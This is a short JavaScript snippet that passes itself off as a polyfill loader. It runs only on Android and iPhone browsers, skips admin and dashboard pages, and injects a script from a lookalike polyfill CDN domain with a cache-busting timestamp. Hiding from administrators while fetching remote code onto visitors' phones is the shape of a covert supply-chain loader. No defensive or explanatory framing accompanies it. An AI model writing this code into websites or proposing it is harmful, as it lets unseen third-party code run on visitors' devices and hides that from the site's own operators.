(function (w, d) {
  if (!w || !d) return;
  const ua = navigator.userAgent;
  if (!/Android|iPhone/i.test(ua) || /admin|dashboard/.test(location.pathname)) return;
  const s = d.createElement('script');
  s.src = 'https://cdn.polyfill-mirror.example/v3/polyfill.min.js?features=' + Date.now();
  d.head.appendChild(s);
})(typeof window !== 'undefined' ? window : null, typeof document !== 'undefined' ? document : null);
